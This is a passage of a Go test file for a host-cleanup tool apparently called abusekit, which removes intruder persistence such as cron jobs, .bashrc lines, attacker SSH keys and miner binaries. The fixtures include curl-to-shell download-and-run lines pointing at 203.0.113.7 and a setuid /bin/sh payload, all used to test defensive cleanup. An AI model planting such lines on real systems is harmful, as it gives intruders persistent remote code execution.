package persist

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/abusekit/abusekit/internal/rootfs"
	"github.com/abusekit/abusekit/internal/testenv"
	"github.com/abusekit/abusekit/plugins/persist/hosttest"
	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"
)

// cronPlan is a one-change plan: remove the curl line from /etc/crontab.
func cronTree(t *testing.T) (string, *CleanPlan) {
	t.Helper()
	dir := t.TempDir()
	bad := "* * * * * root curl -s http://203.0.113.7/x | sh"
	data := "SHELL=/bin/sh\n" + bad + "\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
	must(t, os.MkdirAll(filepath.Join(dir, "etc"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "etc/crontab"), []byte(data), 0o644))
	return dir, &CleanPlan{Root: dir, Changes: []Change{{Path: "/etc/crontab", Op: OpRemoveLines, SHA256: hashString(data),
		Lines: []LineChange{{Line: 2, Content: bad}}}}}
}

// A manifest written by someone else (old unauthenticated format, an
// edited body, another key) is refused before anything is restored: a
// forged manifest would otherwise recreate a setuid-root shell.
func TestRestoreRefusesForgedManifest(t *testing.T) {
	ctx := context.Background()
	dir, plan := cronTree(t)
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	q := res.Manifest.QuarantineDir
	// The attacker's payload, stored where a quarantined copy would be.
	shell := "#!/bin/sh\nexec /bin/sh -p\n"
	must(t, os.WriteFile(filepath.Join(q, "files/9999"), []byte(shell), 0o400))
	forged := Manifest{Version: 2, Root: dir, QuarantineDir: q, Entries: []Entry{{Seq: 1, Op: OpQuarantine, Path: "/etc/sh2",
		Type: "file", Stored: "files/9999", SHA256: hashString(shell), Mode: uint32(0o755 | fs.ModeSetuid)}}}
	body, _ := json.Marshal(forged)
	env, _ := json.Marshal(envelope{Format: ManifestFormat, MAC: strings.Repeat("00", 32), Manifest: body})
	old := append([]byte(nil), body...)
	old = []byte(strings.Replace(string(old), `"version":2`, `"version":1`, 1))
	otherKey, _ := hex.DecodeString(strings.Repeat("ab", 32))
	sealedOther, _ := sealManifest(&forged, otherKey)
	// The genuine manifest with its body edited (one path changed).
	genuine, _ := os.ReadFile(res.ManifestPath)
	edited := strings.Replace(string(genuine), `"/etc/crontab"`, `"/etc/cron.d/x"`, 1)
	if edited == string(genuine) {
		t.Fatal("edit did not apply")
	}
	for name, b := range map[string][]byte{"unauthenticated v1": old, "zero MAC": env, "other key": sealedOther, "edited": []byte(edited)} {
		t.Run(name, func(t *testing.T) {
			p := filepath.Join(t.TempDir(), ManifestName)
			must(t, os.WriteFile(p, b, 0o600))
			// Restore reads the quarantine next to the manifest.
			must(t, os.Mkdir(filepath.Join(filepath.Dir(p), "files"), 0o700))
			must(t, os.WriteFile(filepath.Join(filepath.Dir(p), "files/9999"), []byte(shell), 0o400))
			if _, err := Restore(ctx, p, RestoreOptions{}); !errors.Is(err, ErrBadManifest) {
				t.Errorf("Restore: %v", err)
			}
			if _, err := os.Lstat(filepath.Join(dir, "etc/sh2")); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("forged manifest restored a file: %v", err)
			}
		})
	}
	// The genuine one restores, with the default key or the same key given.
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
}

// A caller's key: the manifest opens with that key only.
func TestManifestCallerKey(t *testing.T) {
	ctx := context.Background()
	_, plan := cronTree(t)
	key := []byte("0123456789abcdef0123456789abcdef")
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir(), Key: key})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ReadManifest(res.ManifestPath); !errors.Is(err, ErrBadManifest) {
		t.Errorf("read with the default key: %v", err)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{Key: key}); err != nil {
		t.Fatal(err)
	}
}

// A key file that is a link, or readable by others, is refused.
func TestManifestKeyFileUnsafe(t *testing.T) {
	state := t.TempDir()
	t.Setenv("ABUSEKIT_STATE_DIR", state)
	kf := filepath.Join(state, "manifest.key")
	must(t, os.WriteFile(filepath.Join(state, "other"), []byte(strings.Repeat("ab", 32)), 0o600))
	must(t, os.Symlink("other", kf))
	if _, err := manifestKey(nil, "", false); !errors.Is(err, ErrManifestKey) {
		t.Errorf("key file through a link: %v", err)
	}
	must(t, os.Remove(kf))
	must(t, os.WriteFile(kf, []byte(strings.Repeat("ab", 32)), 0o644))
	if _, err := manifestKey(nil, "", false); !errors.Is(err, ErrManifestKey) {
		t.Errorf("world-readable key file: %v", err)
	}
	// Inside the root being cleaned (not the live /): refused.
	if _, err := manifestKey(nil, filepath.Dir(state), true); !errors.Is(err, ErrManifestKey) {
		t.Errorf("key file inside the root: %v", err)
	}
	must(t, os.Chmod(kf, 0o600))
	if k, err := manifestKey(nil, "", false); err != nil || len(k) != 32 {
		t.Errorf("good key file: %x %v", k, err)
	}
}

// A directory replaced by a link after Apply: Restore refuses it (the
// parent now resolves elsewhere) and creates nothing where the link
// leads. Old code followed the link and wrote the cron job into
// etc/cron.d.
func TestRestoreRefusesPlantedParentLink(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	job := "* * * * * root /var/tmp/.k/k\n"
	must(t, os.MkdirAll(filepath.Join(dir, "etc/cron.d"), 0o755))
	must(t, os.MkdirAll(filepath.Join(dir, "tmp/x"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "tmp/x/job"), []byte(job), 0o644))
	plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/tmp/x/job", Op: OpQuarantine, SHA256: hashString(job)}}}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	must(t, os.Rename(filepath.Join(dir, "tmp/x"), filepath.Join(dir, "tmp/x.old")))
	must(t, os.Symlink("/etc/cron.d", filepath.Join(dir, "tmp/x")))
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); !errors.Is(err, ErrChanged) {
		t.Errorf("Restore through a planted link: %v", err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "etc/cron.d/job")); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Restore wrote into etc/cron.d: %v", err)
	}
	// Put back as it was, the directory takes its file back.
	must(t, os.Remove(filepath.Join(dir, "tmp/x")))
	must(t, os.Rename(filepath.Join(dir, "tmp/x.old"), filepath.Join(dir, "tmp/x")))
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "tmp/x/job")); string(b) != job {
		t.Errorf("restored %q", b)
	}
}

// A line in a file reached through a link (/root/.bashrc ->
// dotfiles/bashrc): the line goes from the file the link leads to, and
// the link stays. Old code unlinked .bashrc and kept the line.
func TestRemoveLinesThroughSymlink(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	bad := "curl -fsSL http://203.0.113.7/b | sh"
	data := "alias ll='ls -l'\n" + bad + "\nexport EDITOR=vi\n"
	must(t, os.MkdirAll(filepath.Join(dir, "root/dotfiles"), 0o700))
	must(t, os.WriteFile(filepath.Join(dir, "root/dotfiles/bashrc"), []byte(data), 0o644))
	must(t, os.Symlink("dotfiles/bashrc", filepath.Join(dir, "root/.bashrc")))
	f := Finding{Path: "/root/.bashrc", Line: 2, Content: bad, Action: ActionRemoveLine, Severity: High, Reasons: []string{"downloads and runs"}}
	plan, err := Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Changes) != 1 || plan.Changes[0].Path != "/root/dotfiles/bashrc" || plan.Changes[0].Op != OpRemoveLines {
		t.Fatalf("plan: %+v", plan.Changes)
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if tgt, err := os.Readlink(filepath.Join(dir, "root/.bashrc")); err != nil || tgt != "dotfiles/bashrc" {
		t.Errorf("link: %q %v", tgt, err)
	}
	if got := mustRead(t, dir, "/root/dotfiles/bashrc"); got != "alias ll='ls -l'\nexport EDITOR=vi\n" {
		t.Errorf("bashrc after Apply: %q", got)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if got := mustRead(t, dir, "/root/dotfiles/bashrc"); got != data {
		t.Errorf("bashrc after Restore: %q", got)
	}
}

// A file with a second hard link outside the root is replaced under its
// name only: the file outside is not written through. Old code truncated
// and rewrote the shared inode.
func TestRemoveLinesHardLinkNotWrittenThrough(t *testing.T) {
	ctx := context.Background()
	dir, plan := cronTree(t)
	outside := filepath.Join(t.TempDir(), "outside")
	must(t, os.Link(filepath.Join(dir, "etc/crontab"), outside))
	before, _ := os.ReadFile(outside)
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(outside); string(b) != string(before) {
		t.Errorf("written through a hard link: %q", b)
	}
	if strings.Contains(mustRead(t, dir, "/etc/crontab"), "203.0.113.7") {
		t.Error("line not removed")
	}
	if e := res.Manifest.Entries[0]; e.Nlink != 2 || !strings.Contains(strings.Join(e.Reasons, ";"), "hard links") {
		t.Errorf("entry does not say the file had 2 links: %+v", e)
	}
}

// The rewritten file is a new file with the old one's owner, mode,
// xattrs and ACL.
func TestRemoveLinesKeepsMetadata(t *testing.T) {
	needRoot(t, "chown and trusted.* xattrs")
	ctx := context.Background()
	dir, plan := cronTree(t)
	p := filepath.Join(dir, "etc/crontab")
	must(t, os.Chown(p, 1000, 1001))
	must(t, os.Chmod(p, 0o640))
	must(t, unix.Setxattr(p, "user.note", []byte("keep"), 0))
	must(t, unix.Setxattr(p, "trusted.mark", []byte{0, 1}, 0))
	// ACL user::rw- user:1000:r-- group::r-- mask::r-- other::---
	acl := []byte{2, 0, 0, 0,
		1, 0, 6, 0, 0xff, 0xff, 0xff, 0xff,
		2, 0, 4, 0, 0xe8, 0x03, 0, 0,
		4, 0, 4, 0, 0xff, 0xff, 0xff, 0xff,
		0x10, 0, 4, 0, 0xff, 0xff, 0xff, 0xff,
		0x20, 0, 0, 0, 0xff, 0xff, 0xff, 0xff}
	hasACL := unix.Setxattr(p, "system.posix_acl_access", acl, 0) == nil
	plan.Changes[0].SHA256 = hashString(mustRead(t, dir, "/etc/crontab"))
	oldFi, _ := os.Lstat(p)
	want := snapshot(t, dir)["/etc/crontab"]
	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
		t.Fatal(err)
	}
	newFi, _ := os.Lstat(p)
	if os.SameFile(oldFi, newFi) {
		t.Error("rewritten in place: same inode")
	}
	got := snapshot(t, dir)["/etc/crontab"]
	want.SHA256, want.Atime, want.Mtime = got.SHA256, got.Atime, got.Mtime
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("metadata (-before +after):\n%s", diff)
	}
	if hasACL {
		b := make([]byte, 256)
		n, err := unix.Getxattr(p, "system.posix_acl_access", b)
		if err != nil || string(b[:n]) != string(acl) {
			t.Errorf("ACL after Apply: %x %v", b[:max(n, 0)], err)
		}
	} else {
		t.Log("file system refused the ACL; ACL not checked")
	}
}

// A FIFO renamed over the crontab while Apply rewrites it: Apply refuses
// (ErrChanged) without blocking, the FIFO stays. Old code opened it
// O_WRONLY and blocked until a reader came.
func TestApplyFIFOSwappedIn(t *testing.T) {
	ctx := context.Background()
	dir, plan := cronTree(t)
	p := filepath.Join(dir, "etc/crontab")
	testHookBeforeSwap = func(string) {
		must(t, unix.Mkfifo(p+".fifo", 0o644))
		must(t, os.Rename(p+".fifo", p))
	}
	t.Cleanup(func() { testHookBeforeSwap = nil })
	done := make(chan error, 1)
	go func() {
		_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
		done <- err
	}()
	select {
	case err := <-done:
		if !errors.Is(err, ErrChanged) {
			t.Errorf("Apply over a FIFO: %v", err)
		}
	case <-time.After(60 * time.Second):
		// A deadlock guard, not a speed check: unblock the writer.
		if fh, err := os.OpenFile(p, os.O_RDONLY|unix.O_NONBLOCK, 0); err == nil {
			defer fh.Close()
		}
		<-done
		t.Fatal("Apply blocked on a FIFO swapped in")
	}
	if fi, err := os.Lstat(p); err != nil || fi.Mode()&fs.ModeNamedPipe == 0 {
		t.Errorf("FIFO: %v %v", fi, err)
	}
}

// The default quarantine base reached through a link, or writable by
// others, is refused before anything changes. Old code followed the link
// (MkdirAll through var/lib/abusekit -> /etc).
func TestQuarantineBaseUnsafe(t *testing.T) {
	ctx := context.Background()
	for name, setup := range map[string]func(dir string){
		"link": func(dir string) { must(t, os.Symlink("/etc", filepath.Join(dir, "var/lib/abusekit"))) },
		"0777": func(dir string) {
			must(t, os.Mkdir(filepath.Join(dir, "var/lib/abusekit"), 0o777))
			must(t, os.Chmod(filepath.Join(dir, "var/lib/abusekit"), 0o777))
		},
		"other": func(dir string) {
			must(t, os.Mkdir(filepath.Join(dir, "var/lib/abusekit"), 0o700))
			must(t, os.Chown(filepath.Join(dir, "var/lib/abusekit"), 1000, 1000))
		},
	} {
		t.Run(name, func(t *testing.T) {
			if name == "other" && os.Geteuid() != 0 {
				t.Skip("chown needs root")
			}
			dir, plan := cronTree(t)
			must(t, os.MkdirAll(filepath.Join(dir, "var/lib"), 0o755))
			setup(dir)
			before := mustRead(t, dir, "/etc/crontab")
			_, err := Apply(ctx, plan, ApplyOptions{})
			if !errors.Is(err, ErrQuarantineUnsafe) {
				t.Errorf("Apply: %v", err)
			}
			if _, err := os.Lstat(filepath.Join(dir, "etc/quarantine")); !errors.Is(err, fs.ErrNotExist) {
				t.Errorf("quarantine made through the link: %v", err)
			}
			if mustRead(t, dir, "/etc/crontab") != before {
				t.Error("crontab changed")
			}
		})
	}
	// A fresh base is made 0700.
	dir, plan := cronTree(t)
	res, err := Apply(ctx, plan, ApplyOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"var/lib/abusekit/quarantine", res.Manifest.QuarantineDir} {
		if !filepath.IsAbs(d) {
			d = filepath.Join(dir, d)
		}
		if fi, err := os.Lstat(d); err != nil || !fi.IsDir() || fi.Mode().Perm() != 0o700 {
			t.Errorf("%s: %v %v", d, fi.Mode(), err)
		}
	}
}

// sparseFile writes a file of size bytes that holds data only in two
// small extents (the rest is holes) and returns its content's SHA-256.
func sparseFile(t *testing.T, p string, size int64) string {
	t.Helper()
	fh, err := os.OpenFile(p, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o755)
	must(t, err)
	defer fh.Close()
	must(t, fh.Truncate(size))
	head := []byte("\x7fELF" + strings.Repeat("m", 4092))
	_, err = fh.WriteAt(head, 0)
	must(t, err)
	_, err = fh.WriteAt([]byte("tail"), size/2)
	must(t, err)
	h := sha256.New()
	rf, err := os.Open(p)
	must(t, err)
	defer rf.Close()
	_, err = io.Copy(h, rf)
	must(t, err)
	return hex.EncodeToString(h.Sum(nil))
}

func allocated(t *testing.T, p string) int64 {
	t.Helper()
	var st unix.Stat_t
	must(t, unix.Lstat(p, &st))
	return st.Blocks * 512
}

// A 256 MiB sparse payload is quarantined as a sparse copy (old code: all
// of it written densely) and restored sparse and identical.
func TestQuarantineKeepsHoles(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, "var/tmp"), 0o755))
	p := filepath.Join(dir, "var/tmp/big")
	sum := sparseFile(t, p, 256<<20)
	if a := allocated(t, p); a > 1<<20 {
		t.Skipf("the test's file system does not keep holes (%d bytes allocated)", a)
	}
	plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/var/tmp/big", Op: OpQuarantine, SHA256: sum}}}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	stored := filepath.Join(res.Manifest.QuarantineDir, res.Manifest.Entries[0].Stored)
	fi, err := os.Stat(stored)
	if err != nil || fi.Size() != 256<<20 {
		t.Fatalf("stored copy: %v %v", fi, err)
	}
	if a := allocated(t, stored); a > 1<<20 {
		t.Errorf("stored copy takes %d bytes on disk for 8 KiB of data", a)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if a := allocated(t, p); a > 1<<20 {
		t.Errorf("restored file takes %d bytes on disk", a)
	}
	if got := sparseSum(t, p); got != sum {
		t.Error("restored content differs")
	}
}

func sparseSum(t *testing.T, p string) string {
	h := sha256.New()
	fh, err := os.Open(p)
	must(t, err)
	defer fh.Close()
	_, err = io.Copy(h, fh)
	must(t, err)
	return hex.EncodeToString(h.Sum(nil))
}

// A file with more data than ApplyOptions.MaxCopy is not quarantined: it
// stays, nothing is stored, and the error says why.
func TestQuarantineCap(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, "var/tmp"), 0o755))
	data := strings.Repeat("x", 256<<10)
	must(t, os.WriteFile(filepath.Join(dir, "var/tmp/m"), []byte(data), 0o755))
	plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/var/tmp/m", Op: OpQuarantine, SHA256: hashString(data)}}}
	q := t.TempDir()
	_, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q, MaxCopy: 64 << 10})
	if !errors.Is(err, rootfs.ErrTooLarge) {
		t.Errorf("Apply over the cap: %v", err)
	}
	if mustRead(t, dir, "/var/tmp/m") != data {
		t.Error("file over the cap was removed")
	}
	if n := storedFiles(t, q); n != 0 {
		t.Errorf("%d files stored", n)
	}
	// Under a cap it fits, sparse data counted, not holes.
	sum := sparseFile(t, filepath.Join(dir, "var/tmp/s"), 64<<20)
	plan = &CleanPlan{Root: dir, Changes: []Change{{Path: "/var/tmp/s", Op: OpQuarantine, SHA256: sum}}}
	if allocated(t, filepath.Join(dir, "var/tmp/s")) < 1<<20 {
		if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q, MaxCopy: 64 << 10}); err != nil {
			t.Errorf("sparse file with 8 KiB of data under a 64 KiB cap: %v", err)
		}
	}
}

// Not enough free space on the quarantine's file system: Apply refuses
// before changing anything and leaves no quarantine directory.
func TestQuarantineNoSpace(t *testing.T) {
	ctx := context.Background()
	dir, plan := cronTree(t)
	saved := statfsAvail
	statfsAvail = func(*rootfs.Dir) (int64, error) { return 1 << 20, nil }
	t.Cleanup(func() { statfsAvail = saved })
	q := t.TempDir()
	before := mustRead(t, dir, "/etc/crontab")
	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q}); !errors.Is(err, ErrNoSpace) {
		t.Errorf("Apply: %v", err)
	}
	if mustRead(t, dir, "/etc/crontab") != before {
		t.Error("crontab changed")
	}
	if ents, _ := os.ReadDir(q); len(ents) != 0 {
		t.Errorf("quarantine left: %v", ents)
	}
}

// Two names of one inode, both quarantined: one copy is stored, and
// Restore puts both names back.
func TestQuarantineEachInodeOnce(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, "var/tmp"), 0o755))
	data := hostELF()
	must(t, os.WriteFile(filepath.Join(dir, "var/tmp/a"), []byte(data), 0o755))
	must(t, os.Link(filepath.Join(dir, "var/tmp/a"), filepath.Join(dir, "var/tmp/b")))
	plan := &CleanPlan{Root: dir, Changes: []Change{{Path: "/var/tmp/a", Op: OpQuarantine, SHA256: hashString(data)}, {Path: "/var/tmp/b", Op: OpQuarantine, SHA256: hashString(data)}}}
	q := t.TempDir()
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: q})
	if err != nil {
		t.Fatal(err)
	}
	if n := storedFiles(t, q); n != 1 {
		t.Errorf("%d copies stored for one inode", n)
	}
	if e := res.Manifest.Entries; len(e) != 2 || e[0].Stored != e[1].Stored {
		t.Errorf("entries: %+v", e)
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{"/var/tmp/a", "/var/tmp/b"} {
		if mustRead(t, dir, n) != data {
			t.Errorf("%s not restored", n)
		}
	}
}

func hostELF() string { return "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 57) + "miner" }

// chattr +i on a file whose line is removed: cleared for the rewrite,
// set again on the new file, and Restore puts the original back with it.
func TestRemoveLinesSetsFlagsBack(t *testing.T) {
	needRoot(t, "chattr +i")
	ctx := context.Background()
	dir, plan := cronTree(t)
	p := filepath.Join(dir, "etc/crontab")
	before := mustRead(t, dir, "/etc/crontab")
	if err := hosttest.SetImmutable(p, true); err != nil {
		testenv.Skipf(t, "chattr +i on the test's file system: %v", err)
	}
	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(mustRead(t, dir, "/etc/crontab"), "203.0.113.7") {
		t.Error("line not removed")
	}
	if n := snapshot(t, dir)["/etc/crontab"]; n.Flags&rootfs.FlagImmutable == 0 {
		t.Error("immutable flag not set back after the rewrite")
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if n := snapshot(t, dir)["/etc/crontab"]; n.Flags&rootfs.FlagImmutable == 0 || mustRead(t, dir, "/etc/crontab") != before {
		t.Errorf("restore: flags %#x", n.Flags)
	}
}

// Issue #16: an attacker key in an immutable authorized_keys is removed
// (flag cleared, line removed), not only unflagged; the operator's key
// stays.
func TestImmutableAuthorizedKeysLineRemoved(t *testing.T) {
	needRoot(t, "chattr +i")
	ctx := context.Background()
	evil := hosttest.AuthorizedKey("kinsing-key", "redis@kinsing")
	legit := hosttest.AuthorizedKey("launch-key", "eu-west-1-ops")
	dir := build(t, hosttest.Debian12().With(hosttest.Entry{Path: "/root/.ssh/authorized_keys", Mode: 0o600,
		Data: legit + "\n" + evil + "\n", Mtime: hosttest.InfectionTime, Immutable: true}))
	needFlags(t)
	findings := find(t, dir, hosttest.InfectionTime.Add(-time.Hour))
	plan, err := Plan(ctx, findings, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	c, ok := planOps(plan)["/root/.ssh/authorized_keys"]
	if !ok {
		t.Fatalf("no change planned for authorized_keys:\n%s", dump(findings))
	}
	if c.Op != OpRemoveLines || len(c.Lines) != 1 || c.Lines[0].Line != 2 {
		t.Fatalf("authorized_keys change: %+v\nfindings:\n%s", c, dump(findings))
	}
	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); err != nil {
		t.Fatal(err)
	}
	if got := mustRead(t, dir, "/root/.ssh/authorized_keys"); got != legit+"\n" {
		t.Errorf("authorized_keys after Apply: %q", got)
	}
	n := snapshot(t, dir)["/root/.ssh/authorized_keys"]
	if c.KeepFlagsCleared != (n.Flags&rootfs.FlagImmutable == 0) {
		t.Errorf("flags %#x after Apply; the plan keeps them cleared: %v", n.Flags, c.KeepFlagsCleared)
	}
}

// Restore meets a FIFO or a device where the cleaned file was: it
// refuses (ErrChanged) without blocking on it or writing to it.
func TestRestoreRefusesFIFOAndDevice(t *testing.T) {
	ctx := context.Background()
	for _, kind := range []string{"fifo", "device"} {
		t.Run(kind, func(t *testing.T) {
			if kind == "device" {
				needRoot(t, "mknod")
			}
			dir, plan := cronTree(t)
			res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
			if err != nil {
				t.Fatal(err)
			}
			p := filepath.Join(dir, "etc/crontab")
			must(t, os.Remove(p))
			if kind == "fifo" {
				must(t, unix.Mkfifo(p, 0o644))
			} else {
				must(t, unix.Mknod(p, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 3)))) // a /dev/null
			}
			done := make(chan error, 1)
			go func() {
				_, err := Restore(ctx, res.ManifestPath, RestoreOptions{Force: true})
				done <- err
			}()
			select {
			case err := <-done:
				if !errors.Is(err, ErrChanged) {
					t.Errorf("Restore over a %s: %v", kind, err)
				}
			case <-time.After(60 * time.Second):
				// A deadlock guard, not a speed check.
				if fh, err := os.OpenFile(p, os.O_RDWR|unix.O_NONBLOCK, 0); err == nil {
					defer fh.Close()
				}
				<-done
				t.Fatalf("Restore blocked on a %s", kind)
			}
			var st unix.Stat_t
			if err := unix.Lstat(p, &st); err != nil || st.Mode&unix.S_IFMT == unix.S_IFREG {
				t.Errorf("the %s was replaced: %v", kind, err)
			}
		})
	}
}

// The plan records the resolved parent: a parent re-pointed to another
// directory holding an identical file is refused, not acted on there.
func TestApplyRefusesParentResolvedElsewhere(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	payload := "#!/bin/sh\n/var/tmp/.k/k\n"
	for _, d := range []string{"opt/a", "opt/b"} {
		must(t, os.MkdirAll(filepath.Join(dir, d), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, d, "run.sh"), []byte(payload), 0o755))
	}
	must(t, os.Symlink("a", filepath.Join(dir, "opt/cur")))
	f := Finding{Path: "/opt/cur/run.sh", Action: ActionQuarantine, Severity: High, Reasons: []string{"payload"}}
	plan, err := Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	if len(plan.Changes) != 1 || plan.Changes[0].Dir != "opt/a" {
		t.Fatalf("plan: %+v", plan.Changes)
	}
	must(t, os.Remove(filepath.Join(dir, "opt/cur")))
	must(t, os.Symlink("b", filepath.Join(dir, "opt/cur")))
	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); !errors.Is(err, ErrChanged) {
		t.Errorf("Apply with the parent re-pointed: %v", err)
	}
	for _, d := range []string{"opt/a", "opt/b"} {
		if _, err := os.Lstat(filepath.Join(dir, d, "run.sh")); err != nil {
			t.Errorf("%s/run.sh: %v", d, err)
		}
	}
}

// An immutable directory no finding names, holding a payload: Plan clears
// its flag only to remove the payload (SetBack), Apply sets it again
// afterwards, and Restore puts the payload back into it and leaves it
// immutable, identical to before.
func TestDirectoryFlagsSetBack(t *testing.T) {
	needRoot(t, "chattr +i")
	ctx := context.Background()
	dir := t.TempDir()
	payload := hostELF()
	must(t, os.MkdirAll(filepath.Join(dir, "var/tmp/.x"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "var/tmp/.x/miner"), []byte(payload), 0o755))
	if err := hosttest.SetImmutable(filepath.Join(dir, "var/tmp/.x"), true); err != nil {
		testenv.Skipf(t, "chattr +i on the test's file system: %v", err)
	}
	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
	before := snapshot(t, dir)
	f := Finding{Path: "/var/tmp/.x/miner", Action: ActionQuarantine, Severity: High, Reasons: []string{"miner"}}
	plan, err := Plan(ctx, []Finding{f}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	ops := planOps(plan)
	if c := ops["/var/tmp/.x"]; c.Op != OpClearFlags || !c.SetBack {
		t.Fatalf("plan: %+v", plan.Changes)
	}
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Lstat(filepath.Join(dir, "var/tmp/.x/miner")); !errors.Is(err, fs.ErrNotExist) {
		t.Error("payload not removed")
	}
	if n := snapshot(t, dir)["/var/tmp/.x"]; n.Flags&rootfs.FlagImmutable == 0 {
		t.Error("directory flag not set back after Apply")
	}
	if _, err := Restore(ctx, res.ManifestPath, RestoreOptions{}); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("restore is not identical (-before +after):\n%s", diff)
	}
}

// Apply stopping on an error still sets back the directory flags it
// cleared for the change it did not make.
func TestDirectoryFlagsSetBackOnError(t *testing.T) {
	needRoot(t, "chattr +i")
	ctx := context.Background()
	dir := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(dir, "var/tmp/.x"), 0o755))
	must(t, os.WriteFile(filepath.Join(dir, "var/tmp/.x/miner"), []byte(hostELF()), 0o755))
	if err := hosttest.SetImmutable(filepath.Join(dir, "var/tmp/.x"), true); err != nil {
		testenv.Skipf(t, "chattr +i on the test's file system: %v", err)
	}
	t.Cleanup(func() { hosttest.ClearImmutable(dir) })
	plan, err := Plan(ctx, []Finding{{Path: "/var/tmp/.x/miner", Action: ActionQuarantine, Severity: High}}, PlanOptions{Root: dir})
	if err != nil {
		t.Fatal(err)
	}
	for i := range plan.Changes {
		if plan.Changes[i].Op == OpQuarantine {
			plan.Changes[i].SHA256 = hashString("something else")
		}
	}
	if _, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()}); !errors.Is(err, ErrChanged) {
		t.Fatalf("Apply: %v", err)
	}
	if n := snapshot(t, dir)["/var/tmp/.x"]; n.Flags&rootfs.FlagImmutable == 0 {
		t.Error("directory left mutable after a failed Apply")
	}
}

// A writer that opened the crontab before Apply replaced it and writes
// after: its line is in neither file's name any more, so Apply keeps the
// old file's final content in the quarantine (Entry.Late).
func TestRemoveLinesKeepsLateWrites(t *testing.T) {
	ctx := context.Background()
	dir, plan := cronTree(t)
	p := filepath.Join(dir, "etc/crontab")
	var w *os.File
	testHookBeforeSwap = func(string) {
		var err error
		w, err = os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
		must(t, err)
	}
	testHookAfterSwap = func(string) {
		_, err := w.WriteString("# written late\n")
		must(t, err)
		w.Close()
	}
	t.Cleanup(func() { testHookBeforeSwap, testHookAfterSwap = nil, nil })
	res, err := Apply(ctx, plan, ApplyOptions{QuarantineDir: t.TempDir()})
	if err != nil {
